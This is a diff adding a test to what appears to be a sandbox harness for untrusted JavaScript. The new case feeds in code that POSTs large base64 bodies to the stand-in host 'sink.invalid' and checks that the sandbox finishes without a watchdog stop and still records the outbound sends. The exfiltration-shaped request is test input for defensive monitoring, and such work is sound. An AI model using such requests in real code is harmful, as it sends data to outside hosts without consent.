@@ -237,6 +237,13 @@ describe('exhaustion', () => {
     });
   }
 
+  it('lowers long unbroken base64 bodies without the watchdog stopping the sandbox (the lowering is linear in them)', () => {
+    // Each body is one 64 KB base64 line: a search for line-wrapped base64 tried at every start inside it was quadratic.
+    const r = hostile('const h = require("https"); for (let i = 0; i < 4; i++) h.request({ hostname: "sink.invalid", method: "POST" }).end("QUF" + i + "QUFB".repeat(16383));');
+    expect(r.runs.map((x) => [x.status, x.error])).toEqual([['done', undefined], ['done', undefined], ['done', undefined]]);
+    expect(r.effects.filter((e) => e.kind === 'send').length).toBeGreaterThan(0);
+  });
+
   it('survives deep recursion when the host stack is already deep', () => {
     const deep = (n: number): ReturnType<typeof hostile> => (n === 0 ? hostile('function f(n) { return [f(n + 1)]; } f(0);') : deep(n - 1));
     const r = deep(3000);
